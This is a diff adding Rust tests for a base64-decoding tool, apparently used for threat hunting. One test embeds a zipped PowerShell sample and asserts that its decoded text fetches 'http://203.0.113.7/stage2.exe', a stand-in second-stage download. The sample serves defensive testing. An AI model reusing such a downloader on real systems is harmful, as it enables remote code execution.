@@ -462,3 +462,73 @@ fn proctree_frame_and_errors() {
         stderr(&o)
     );
 }
+
+/// A zip (one deflated `run.ps1`), base64 as Python's `base64.b64encode` wrote it.
+const ZIP_B64: &str = "UEsDBBQAAAAIAAAAZFghUoBkXgAAAGwAAAAHAAAAcnVuLnBzMfPMK8vPTtUNT00KSi0sTS0uUdANLcpUyCgpKbDS1zcyMNYz0DM0NNYz1y8uSUxPNdJLrUhV0PUvLXHLzElVUEnNK7MKcfUNiCkGSVgrBJckFpXoBhTlJ6cWF6NLAwBQSwECFAMUAAAACAAAAGRYIVKAZF4AAABsAAAABwAAAAAAAAAAAAAAgAEAAAAAcnVuLnBzMVBLBQYAAAAAAQABADUAAACDAAAAAAA=";
+
+fn ndjson_rows(o: &Output) -> Vec<serde_json::Value> {
+    stdout(o)
+        .split('\n')
+        .filter(|l| !l.is_empty())
+        .map(|l| serde_json::from_str(l).unwrap())
+        .collect()
+}
+
+/// Issue #11 (bug 5): base64 wrapped at 76 characters (MIME, CRLF) is one
+/// payload: the zip unpacks, no fragment per line.
+#[test]
+fn issue_11_decode_wrapped_base64_zip() {
+    let lines: Vec<&str> = ZIP_B64
+        .as_bytes()
+        .chunks(76)
+        .map(|c| std::str::from_utf8(c).unwrap())
+        .collect();
+    let mail = format!(
+        "Content-Type: application/zip\r\nContent-Transfer-Encoding: base64\r\n\r\n{}\r\n\r\n--boundary--\r\n",
+        lines.join("\r\n")
+    );
+    let f = temp("wrapped.eml", mail.as_bytes());
+    let o = huntkit(&["decode", f.to_str().unwrap(), "--format", "ndjson"], None);
+    assert!(o.status.success(), "{}", stderr(&o));
+    assert!(!stderr(&o).contains("cannot unpack"), "{}", stderr(&o));
+    let rows = ndjson_rows(&o);
+    assert_eq!(rows.len(), 2, "{}", stdout(&o));
+    assert_eq!(rows[0]["file_type"], "zip");
+    assert_eq!(rows[0]["original_string"], lines.join("\r\n"));
+    assert_eq!(rows[1]["file_name"], "run.ps1");
+    assert!(rows[1]["decoded_string"]
+        .as_str()
+        .unwrap()
+        .contains("http://203.0.113.7/stage2.exe"));
+}
+
+/// Issue #11 (bug 6): base64 of random 48-byte blobs comes back as binary
+/// base64, one row each, never as UTF-16 text or dropped.
+#[test]
+fn issue_11_decode_random_blobs_are_binary() {
+    let mut x: u64 = 0x2545_f491_4f6c_dd1d;
+    let mut text = String::new();
+    for _ in 0..40 {
+        let blob: Vec<u8> = (0..48)
+            .map(|_| {
+                x ^= x << 13;
+                x ^= x >> 7;
+                x ^= x << 17;
+                (x >> 32) as u8
+            })
+            .collect();
+        text.push_str(&format!("blob {}\n", encode_b64(&blob)));
+    }
+    let o = huntkit(
+        &["decode", "-", "--format", "ndjson"],
+        Some(text.as_bytes()),
+    );
+    assert!(o.status.success(), "{}", stderr(&o));
+    let rows = ndjson_rows(&o);
+    assert_eq!(rows.len(), 40, "{}", stdout(&o));
+    for row in rows {
+        assert_eq!(row["encoding_type"], "base64", "{row}");
+        assert_eq!(row["decoded_string"], "", "{row}");
+        assert_eq!(row["input_bytes"], 48);
+    }
+}
